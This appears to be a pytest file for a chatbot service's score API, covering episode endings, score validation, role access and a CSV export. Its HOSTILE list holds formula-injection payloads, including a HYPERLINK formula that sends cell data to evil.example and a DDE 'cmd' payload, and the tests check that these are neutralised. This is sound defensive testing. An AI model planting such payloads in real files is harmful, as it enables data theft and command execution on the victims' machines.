"""Scores over HTTP: the end of an episode, the question, and a team lead's figures and file."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx2
import pytest

from api.access.roles import Role
from api.csv_text import csv_row
from bot.catalogue import text as fixed_text
from tests.api.conftest import Client, Server
from tests.api.console import sign_in
from tests.api.test_links import asked

PATH = "/api/admin/v1/companies/tindra/scores"
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＠x",
    '=HYPERLINK("https://evil.example?"&A1;"klikk")', "=cmd|' /C calc'!A0",
]  # fmt: skip


def call(client: Client, part: str, body: Any = None) -> httpx2.Response:
    return client.http.post(f"{client.path}/{part}", json=body, headers=client.auth)


def test_end_and_score(shared_server: Server) -> None:
    client, _ = asked(shared_server)
    early = call(client, "score", {"score": 5})
    assert (early.status_code, early.json()["code"]) == (409, "episode_not_over")
    with client.stream() as events:
        assert [next(events).name for _ in range(3)].count("message") == 2
        ended = call(client, "end")
        assert ended.status_code == 201
        told = next(event for event in events if event.name == "message")
    assert (told.data["kind"], told.data["role"], told.id) == (
        "ended",
        "system",
        ended.json()["seq"],
    )
    assert call(client, "end").json() == ended.json()
    assert client.view()["status"] == "resolved"
    headers = client.auth | {"Accept-Language": "nn"}
    question = client.http.get(f"{client.path}/score", headers=headers).json()
    assert question["state"] == "open"
    assert question["question"] == fixed_text("nn", "score.question")
    assert call(client, "score", {"score": 9, "comment": "Bra"}).status_code == 204
    assert call(client, "score", {"score": 9, "comment": "Bra"}).status_code == 204
    other = call(client, "score", {"score": 1})
    assert (other.status_code, other.json()["code"]) == (409, "already_scored")
    assert client.http.get(f"{client.path}/score", headers=headers).json()["state"] == "given"


def test_not_in_the_middle_of_a_question(shared_server: Server) -> None:
    client = shared_server.client().start()
    nothing = call(client, "end")
    assert (nothing.status_code, nothing.json()["code"]) == (409, "nothing_to_end")
    client.ask("never")
    waiting = call(client, "end")
    assert (waiting.status_code, waiting.json()["code"]) == (409, "still_answering")
    call(client, "stop")
    client.answers()
    assert call(client, "end").status_code == 201


@pytest.mark.parametrize(
    "body",
    [
        {}, {"score": 11}, {"score": -1}, {"score": 5.5}, {"score": "5"}, {"score": True},
        {"score": None}, {"score": 5, "comment": ""}, {"score": 5, "comment": "x" * 2001},
        {"score": 5, "comment": "a\0b"}, {"score": 5, "handled_by": "person"},
        {"score": 5, "first_seq": 1}, {"score": 5, "company": "other"}, [5], 5,
    ],
)  # fmt: skip
def test_what_is_no_score(shared_server: Server, body: Any) -> None:
    client, _ = asked(shared_server)
    call(client, "end")
    assert call(client, "score", body).status_code == 422
    assert client.http.get(f"{client.path}/score", headers=client.auth).json()["state"] == "open"


def test_figures_and_file_of_a_period(shared_server: Server) -> None:
    lead = sign_in(shared_server.client(), Role.TEAM_LEAD)
    before = lead.http.get(PATH).json()["all"]["n"]
    comments = {}
    for number, comment in enumerate([*HOSTILE, 'a"b,c\nd', "Helt greit"]):
        client, _ = asked(shared_server)
        call(client, "end")
        assert call(client, "score", {"score": number % 11, "comment": comment}).status_code == 204
        comments[client.id] = comment
    found = lead.http.get(PATH, params={"limit": 4}).json()
    assert found["all"]["n"] == before + len(comments) == sum(found["all"]["counts"])
    assert found["by"]["bot"] == found["all"]
    assert found["by"]["person"] == {"n": 0, "mean": None, "counts": [0] * 11}
    seen, cursor = list(found["scores"]), found["before"]
    while cursor:
        page = lead.http.get(PATH, params={"limit": 4, "before": cursor}).json()
        seen += page["scores"]
        cursor = page["before"]
    assert len({one["id"] for one in seen}) == len(seen) == found["all"]["n"]
    answer = lead.http.get(f"{PATH}/export.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="scores.csv"'
    lines = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
    assert len(lines) == found["all"]["n"]
    for line in lines:
        given = comments.get(line["conversation_id"])
        if given is not None:
            stripped = given.strip()
            assert line["comment"] == (f"'{stripped}" if given in HOSTILE else stripped)
            assert not line["comment"].startswith(("=", "+", "-", "@"))
    # A day before all of it there is nothing.
    long_ago = (datetime.now(UTC) - timedelta(days=40)).date().isoformat()
    assert (
        lead.http.get(PATH, params={"since": long_ago, "until": long_ago}).json()["all"]["n"] == 0
    )
    only = lead.http.get(f"{PATH}/export.csv", params={"handled_by": "person"})
    assert only.text.count("\r\n") == 1
    for wrong in ({"since": "x"}, {"handled_by": "x"}, {"limit": 0}, {"before": "x"}):
        assert lead.http.get(PATH, params=wrong).status_code == 422
    for edge in ({"since": "0001-01-01"}, {"until": "9999-12-31"}, {"until": "0001-01-01"}):
        assert lead.http.get(PATH, params=edge).status_code == 200, edge


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    [read] = csv.reader(io.StringIO(csv_row([cell, -5, None, "x"]), newline=""))
    assert read == [f"'{cell}", "-5", "", "x"]


def test_agents_do_not_read_scores(shared_server: Server) -> None:
    agent = sign_in(shared_server.client(), Role.AGENT)
    for path in (PATH, f"{PATH}/export.csv"):
        assert agent.http.get(path).status_code == 403
    client, _ = asked(shared_server)
    call(client, "end")
    for role in (Role.CONTENT_OWNER,):
        other = sign_in(shared_server.client(), role)
        path = f"/api/agent/v1/companies/tindra/conversations/{client.id}/score-link"
        assert other.http.post(path).status_code == 403
    foreign = sign_in(shared_server.client(), Role.AGENT, "other")
    path = f"/api/agent/v1/companies/other/conversations/{client.id}/score-link"
    assert foreign.http.post(path).status_code == 404
